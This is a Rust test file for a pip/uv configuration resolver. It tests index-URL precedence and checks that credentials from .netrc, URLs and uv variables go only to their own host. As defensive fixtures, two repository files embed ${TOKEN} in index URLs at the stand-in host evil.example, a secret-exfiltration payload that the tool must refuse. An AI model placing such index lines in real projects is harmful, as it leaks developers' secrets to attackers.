//! What pip and uv are set to: where packages come from, and which login goes where.

use std::collections::BTreeMap;

use lockkeeper::registry::pip_config::{PipConfig, Sources};
use lockkeeper::registry::{ConfigFile, Configuration as _};
use lockkeeper::sys::web::Address;

const CANARY: &str = "canary-91bd";

/// A home folder with `files`, and further variables.
struct Home {
    folder: tempfile::TempDir,
    variables: BTreeMap<String, String>,
}

impl Home {
    fn new(files: &[(&str, &str)], variables: &[(&str, &str)]) -> Self {
        let folder = tempfile::tempdir().unwrap();
        for (path, text) in files {
            let path = folder.path().join(path);
            std::fs::create_dir_all(path.parent().unwrap()).unwrap();
            std::fs::write(path, text).unwrap();
        }
        let own =
            |name: &str, below: &str| (name.to_owned(), folder.path().join(below).display().to_string());
        let mut all = BTreeMap::from([own("HOME", ""), own("XDG_CONFIG_DIRS", "etc")]);
        all.extend(
            variables
                .iter()
                .map(|(name, value)| ((*name).to_owned(), (*value).to_owned())),
        );
        Self {
            folder,
            variables: all,
        }
    }

    fn config(&self, project: &[(&str, &str)]) -> PipConfig {
        let project: Vec<ConfigFile> = project
            .iter()
            .map(|(place, text)| ConfigFile {
                place: (*place).to_owned(),
                text: (*text).to_owned(),
            })
            .collect();
        PipConfig::of(&Sources::of(self.variables.clone(), &project))
    }

    fn bases(&self, project: &[(&str, &str)]) -> Vec<String> {
        bases(&self.config(project), None)
    }
}

fn bases(config: &PipConfig, locked: Option<&str>) -> Vec<String> {
    match config.endpoints("kiln", locked, &["https://policy.example/simple"]) {
        Ok(endpoints) => endpoints
            .iter()
            .map(|endpoint| endpoint.base.to_string())
            .collect(),
        Err(error) => vec![format!("{error}. {}", error.hint())],
    }
}

/// Whether a login goes to `address`.
fn is_sent(config: &PipConfig, locked: &str, address: &str) -> bool {
    let endpoints = config.endpoints("kiln", Some(locked), &[]).unwrap();
    let address = Address::parse(address).unwrap();
    let shown = format!("{endpoints:?} {config:?}");
    assert!(!shown.contains(CANARY), "{shown}");
    endpoints[0]
        .credential
        .as_ref()
        .is_some_and(|credential| credential.belongs_to(&address))
}

#[test]
fn the_first_place_that_names_an_index_counts() {
    let user = (
        ".config/pip/pip.conf",
        "[global]\nindex-url = https://user.example/simple\nextra-index-url = https://extra.example/simple\n",
    );
    let machine = (
        "etc/pip/pip.conf",
        "[global]\nindex-url = https://machine.example/simple\n",
    );
    let uv = (
        ".config/uv/uv.toml",
        "[[index]]\nurl = \"https://uv.example/simple\"\ndefault = true\n",
    );
    let home = Home::new(&[user, machine, uv], &[]);
    assert_eq!(
        home.bases(&[]),
        ["https://extra.example/simple", "https://user.example/simple"]
    );
    assert_eq!(
        Home::new(&[machine, uv], &[]).bases(&[]),
        ["https://machine.example/simple"]
    );
    assert_eq!(Home::new(&[uv], &[]).bases(&[]), ["https://uv.example/simple"]);
    assert_eq!(Home::new(&[], &[]).bases(&[]), ["https://policy.example/simple"]);
    let environment = Home::new(
        &[user],
        &[
            ("PIP_INDEX_URL", "https://pip.example/simple"),
            ("UV_INDEX_URL", "https://uv.example/simple"),
        ],
    );
    assert_eq!(
        environment.bases(&[]),
        ["https://extra.example/simple", "https://pip.example/simple"]
    );
    let file = (
        "app/requirements.txt",
        "-i https://file.example/simple\n--extra-index-url https://more.example/simple\nkiln==1.0\n",
    );
    assert_eq!(
        environment.bases(&[file]),
        [
            "https://more.example/simple",
            "https://extra.example/simple",
            "https://file.example/simple"
        ]
    );
    let project = (
        "app/pyproject.toml",
        "[[tool.uv.index]]\nname = \"a\"\nurl = \"https://a.example/simple\"\n[[tool.uv.index]]\nurl = \"https://b.example/simple\"\ndefault = true\n[[tool.uv.index]]\nurl = \"https://c.example/simple\"\nexplicit = true\n",
    );
    assert_eq!(
        Home::new(&[machine], &[]).bases(&[project]),
        ["https://a.example/simple", "https://b.example/simple"]
    );
    // What the lockfile names for a package is asked alone.
    let locked = bases(
        &environment.config(&[file]),
        Some("https://locked.example/simple"),
    );
    assert_eq!(locked, ["https://locked.example/simple"]);
}

#[test]
fn a_file_that_is_named_hides_the_users() {
    let user = (
        ".config/pip/pip.conf",
        "[global]\nindex-url = https://user.example/simple\n",
    );
    let named = (
        "named.conf",
        "[global]\nextra-index-url = https://more.example/simple\n",
    );
    let mut home = Home::new(&[user, named], &[]);
    let path = home.folder.path().join("named.conf").display().to_string();
    home.variables.insert("PIP_CONFIG_FILE".to_owned(), path);
    assert_eq!(
        home.bases(&[]),
        ["https://more.example/simple", "https://policy.example/simple"]
    );
    home.variables
        .insert("PIP_CONFIG_FILE".to_owned(), "/dev/null".to_owned());
    assert_eq!(home.bases(&[]), ["https://policy.example/simple"]);
}

#[test]
fn a_file_of_the_repository_gets_no_variable() {
    let home = Home::new(&[], &[("TOKEN", CANARY)]);
    for project in [
        (
            "app/requirements.txt",
            "--index-url https://${TOKEN}@evil.example/simple\n",
        ),
        (
            "app/Pipfile",
            "[[source]]\nurl = \"https://evil.example/${TOKEN}\"\n",
        ),
    ] {
        let shown = home.bases(&[project]).join(" ");
        assert!(
            shown.starts_with(&format!(
                "{}: the index takes a variable of the environment",
                project.0
            )),
            "{shown}"
        );
        assert!(!shown.contains(CANARY));
    }
}

#[test]
fn a_login_goes_to_its_own_host_alone() {
    let netrc = format!(
        "machine registry.example login me password {CANARY}\nmachine 127.0.0.1 login me password {CANARY}\ndefault login me password {CANARY}\n"
    );
    let home = Home::new(
        &[(".netrc", &netrc)],
        &[(
            "PIP_INDEX_URL",
            &format!("https://me:{CANARY}@url.example:8443/simple"),
        )],
    );
    let config = home.config(&[]);
    for (locked, address, sent) in [
        (
            "https://registry.example/simple",
            "https://registry.example/simple/kiln/",
            true,
        ),
        (
            "https://registry.example/simple",
            "https://registry.example/files/kiln.whl",
            true,
        ),
        (
            "https://registry.example/simple",
            "https://files.example/kiln.whl",
            false,
        ),
        (
            "https://registry.example:8443/simple",
            "https://registry.example:8443/simple/",
            true,
        ),
        (
            "http://registry.example/simple",
            "http://registry.example/simple/kiln/",
            false,
        ),
        (
            "http://127.0.0.1:9/simple",
            "http://127.0.0.1:9/simple/kiln/",
            true,
        ),
        (
            "https://evil.example/simple",
            "https://evil.example/simple/kiln/",
            false,
        ),
        (
            "https://url.example:8443/other",
            "https://url.example:8443/other/",
            true,
        ),
        ("https://url.example/simple", "https://url.example/simple/", false),
        (
            "https://registry.example.evil.example/simple",
            "https://registry.example.evil.example/simple/",
            false,
        ),
    ] {
        assert_eq!(is_sent(&config, locked, address), sent, "{locked} {address}");
    }
    let own = config.endpoints("kiln", None, &[]).unwrap();
    assert_eq!(own[0].base.to_string(), "https://url.example:8443/simple");
    assert!(own[0].credential.is_some());
    // One in the lockfile's own address is for that host.
    let locked = format!("https://me:{CANARY}@locked.example/simple");
    assert!(is_sent(&config, &locked, "https://locked.example/simple/kiln/"));
    assert!(!is_sent(&config, &locked, "https://other.example/simple/kiln/"));
}

#[test]
fn uv_names_logins_by_index() {
    let project = (
        "uv.toml",
        "[[index]]\nname = \"my-own\"\nurl = \"https://own.example/simple\"\n",
    );
    let home = Home::new(
        &[],
        &[
            ("UV_INDEX_MY_OWN_USERNAME", "me"),
            ("UV_INDEX_MY_OWN_PASSWORD", CANARY),
            ("UV_INDEX", "b=https://b.example/simple https://c.example/simple"),
        ],
    );
    let config = home.config(&[project]);
    assert_eq!(
        bases(&config, None),
        [
            "https://b.example/simple",
            "https://c.example/simple",
            "https://own.example/simple",
            "https://policy.example/simple"
        ]
    );
    assert!(is_sent(
        &config,
        "https://own.example/simple",
        "https://own.example/simple/kiln/"
    ));
}

#[test]
fn an_address_that_is_none_is_an_error_and_shows_no_secret() {
    let home = Home::new(
        &[],
        &[("PIP_INDEX_URL", &format!("ftp://me:{CANARY}@a.example/"))],
    );
    let shown = home.bases(&[]).join(" ");
    assert!(
        shown.starts_with("PIP_INDEX_URL: the index is an address of the scheme `ftp`"),
        "{shown}"
    );
    assert!(!shown.contains(CANARY));
}
